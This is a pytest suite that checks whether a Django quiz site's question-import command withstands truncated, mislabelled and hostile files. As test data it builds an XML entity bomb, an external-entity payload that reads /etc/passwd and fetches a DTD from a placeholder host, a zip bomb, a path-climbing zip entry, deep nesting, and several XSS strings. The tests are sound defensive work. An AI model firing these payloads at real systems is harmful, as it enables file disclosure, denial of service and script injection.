"""Whole, cut, spoiled and hostile files through the command: a list, never a trace or half."""

import io
import json
import random
import time
import zipfile

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils.timezone import now

from quizzes.formats.pictures import NoPictures
from quizzes.formats.registry import FORMATS
from quizzes.models import Question, Quiz, Topic
from quizzes.services import start_attempt
from tests.factories import damage
from tests.factories.question_files import (
    ENDINGS,
    database_of,
    former_site,
    question_file,
    written_test,
)
from tests.factories.quizzes import QuizFactory

pytestmark = pytest.mark.django_db
NAMES = sorted(ENDINGS)
TEXTS = ["aiken", "csv", "gift", "moodle-xml"]
SECONDS = 10


@pytest.fixture
def run(tmp_path, capsys):
    """Run the command on bytes; return its last line, and whether it refused the file."""

    def run_it(data, ending, **options):
        path = tmp_path / f"tệp.{ending}"
        path.write_bytes(data)
        began, refused = time.monotonic(), False
        try:
            call_command("import_questions", str(path), **options)
        except CommandError:
            refused = True
        assert time.monotonic() - began < SECONDS
        told = capsys.readouterr()
        assert "Traceback" not in told.out + told.err
        return json.loads(told.out.splitlines()[-1]), refused

    return run_it


def rows():
    return Question.objects.count(), Topic.objects.count(), Quiz.objects.count()


# --- Whole -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_a_whole_file_arrives_and_arrives_only_once(run, name):
    data = question_file(name)
    count = len(FORMATS[name].reader(data, "x", NoPictures()).items)
    before = rows()
    dry, _refused = run(data, ENDINGS[name], format=name, dry_run=True)
    assert (dry["created"], rows()) == (count, before)
    first, _refused = run(data, ENDINGS[name], format=name)
    assert first == dry
    assert Question.objects.count() == before[0] + count > before[0] + 3
    again, _refused = run(data, ENDINGS[name], format=name)
    assert (again["created"], again["updated"], again["skipped"]) == (0, 0, count)


@pytest.mark.parametrize("kind", ["dump", "database"])
def test_a_site_arrives_whatever_else_its_file_holds(run, kind):
    site = former_site()
    for model in (
        "contenttypes.contenttype",
        "admin.logentry",
        "sessions.session",
        "auth.permission",
        "blog.post",
    ):
        site.add(model, name="x", codename="add_x", user=1, session_data="x")
    random.Random(4).shuffle(site.objects)  # noqa: S311
    data = site.dump() if kind == "dump" else database_of(site)
    ending = "json" if kind == "dump" else "sqlite3"
    dry, _refused = run(data, ending, dry_run=True)
    assert rows() == (0, 0, 0)
    first, _refused = run(data, ending)
    assert first == dry
    assert (Question.objects.count(), Quiz.objects.count()) == (3, 1)
    here = rows()
    run(data, ending)
    assert rows() == here


# --- Cut and spoiled ---------------------------------------------------------------------


@pytest.mark.parametrize("name", [*NAMES, "dump", "database"])
def test_a_file_cut_anywhere_ends_in_a_list(run, name):
    if name in ENDINGS:
        data, ending = question_file(name), ENDINGS[name]
    else:
        data = former_site().dump() if name == "dump" else database_of(former_site())
        ending = "json" if name == "dump" else "sqlite3"
    before = rows()
    for percent in range(0, 100, 5):
        options = {"format": name} if name in ENDINGS else {}
        cut = data[: len(data) * percent // 100]
        told, refused = run(cut, ending, dry_run=True, **options)
        assert told["problems"] or told["created"], (percent, told)
        assert not refused or told["created"] == 0
    assert rows() == before


@pytest.mark.parametrize("name", TEXTS)
def test_the_encoding_of_a_text_makes_no_difference(name):
    data = question_file(name)
    read = FORMATS[name].reader
    whole = read(data, "x", NoPictures())
    for encoding, changed in damage.encodings(data).items():
        found = read(changed, "x", NoPictures())
        assert [one.stem for one in found.items] == [one.stem for one in whole.items], (
            encoding
        )
        assert len(found.faults) == len(whole.faults), encoding


@pytest.mark.parametrize("ending", ["gift", "txt", "xml", "csv", "xlsx", "docx", "zip"])
@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
        b"MZ\x90\x00" + b"\x00" * 900,
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 900,
        b"",
    ],
    ids=["png", "exe", "pdf", "old office", "empty"],
)
def test_another_program_s_file_with_a_wrong_ending_is_refused_in_words(
    run, data, ending
):
    told, _refused = run(data, ending)
    assert told["created"] == 0
    assert told["problems"]
    assert rows() == (0, 0, 0)


# --- Hostile -----------------------------------------------------------------------------

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]>"
)
FETCHING = (
    '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY m SYSTEM "file:///etc/passwd">'
    '<!ENTITY % o SYSTEM "http://198.51.100.1/x.dtd"> %o;]>'
)


def packed(**files):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/"), data)
    return file.getvalue()


def hostile():
    for what, head in (("bomb", BOMB), ("fetching", FETCHING)):
        inside = "&m;" if what == "fetching" else "&m;&l;"
        xml = f"{head}<quiz><question type='essay'><questiontext><text>{inside}</text></questiontext></question></quiz>"
        yield f"moodle {what}", xml.encode(), "xml", "moodle-xml"
        item = f"{head}<qti-assessment-item identifier='a'><qti-item-body>{inside}</qti-item-body></qti-assessment-item>"
        yield f"qti {what}", item.encode(), "xml", "qti3"
        word = f"{head}<w:document xmlns:w='w'><w:body>{inside}</w:body></w:document>"
        yield f"word {what}", packed(**{"word__document.xml": word}), "docx", "docx"
    zeros = packed(**{"word__document.xml": b"0" * 300_000_000})
    yield "zip bomb", zeros, "docx", "docx"
    yield "climbing", packed(**{"..__..__x.xml": b"<a/>"}), "zip", "qti3"
    yield "nested json", b'[{"model": ' * 100_000, "json", ""
    yield "deep xml", b"<quiz>" + b"<b>" * 200_000, "xml", "moodle-xml"
    text = "<p>" + "<b><ul><li>" * 60_000
    essay = f"<quiz><question type='essay'><questiontext><text><![CDATA[{text}x]]></text></questiontext></question></quiz>"
    yield "deep html", essay.encode(), "xml", "moodle-xml"
    yield "braces", b"{" * 2_000_000, "gift", "gift"
    yield "titles", b"::" * 2_000_000, "gift", "gift"
    yield "one line", b"A. " * 1_000_000, "txt", "aiken"
    yield "quotes", b'"' * 3_000_000, "csv", "csv"
    yield "columns", b"Cau hoi,Dap an," + b"A," * 500_000, "csv", "csv"
    yield "key", written_test(["Câu 1: a", "A. b", "1A " * 60_000]), "docx", "docx"


HOSTILE = {what: rest for what, *rest in hostile()}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_means_harm_ends_in_a_problem_and_soon(run, what):
    data, ending, name = HOSTILE[what]
    told, _refused = run(data, ending, format=name)
    assert told["problems"]
    assert "root:" not in json.dumps(told)
    assert told["created"] == Question.objects.count() <= 1


# --- Scripts -----------------------------------------------------------------------------

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>"
    '<a href="javascript:alert(3)">đây</a>[x](javascript:alert(4))<svg onload=alert(5)>'
)


def evil(name):
    if name == "aiken":
        return f"{EVIL}?\nA. {EVIL}1\nB. {EVIL}2\nĐáp án: A\nGiải thích: {EVIL}"
    if name == "csv":
        quoted = EVIL.replace('"', '""')
        return (
            f'Câu hỏi,A,B,Đáp án,Giải thích\n"{quoted}?","{quoted}1","{quoted}2",A,'
            f'"{quoted}"\n'
        )
    if name == "gift":
        text = EVIL.replace("=", "\\=").replace(":", "\\:")
        return (
            f"[html]{text}?{{=[html]{text}1#[html]{text} ~[plain]{text}2####{text}\n}}"
        )
    text = f"<![CDATA[{EVIL}"
    return (
        f"<quiz><question type='multichoice'><questiontext format='html'><text>{text}?]]></text>"
        f"</questiontext><generalfeedback format='markdown'><text>{text}]]></text></generalfeedback>"
        f"<single>true</single><answer fraction='100' format='html'><text>{text}1]]></text></answer>"
        f"<answer fraction='0' format='plain_text'><text>{text}2]]></text></answer></question></quiz>"
    )


@pytest.mark.parametrize("name", TEXTS)
def test_no_script_of_a_file_reaches_a_page(run, name, lan, author):
    told, _refused = run(evil(name).encode(), ENDINGS[name], format=name, live=True)
    assert told["created"] == 1, told
    question = Question.objects.get()
    assert question.state == "live", told
    quiz = QuizFactory(questions=[question])
    learner = Client()
    learner.force_login(lan)
    attempt = start_attempt(quiz=quiz, learner=lan, at=now())
    pages = [
        learner.get(f"/quizzes/{quiz.slug}/"),
        learner.get(f"/quizzes/{quiz.slug}/take/"),
        learner.post(
            f"/quizzes/{quiz.slug}/submit/",
            {"attempt": str(attempt.public_id)},
            follow=True,
        ),
        author.get(f"/admin/snippets/quizzes/question/edit/{question.pk}/"),
    ]
    for page in pages:
        assert page.status_code == 200
        for sign in ("<script>alert", "<img src=x", "<svg onload", 'href="javascript:'):
            assert sign not in page.text
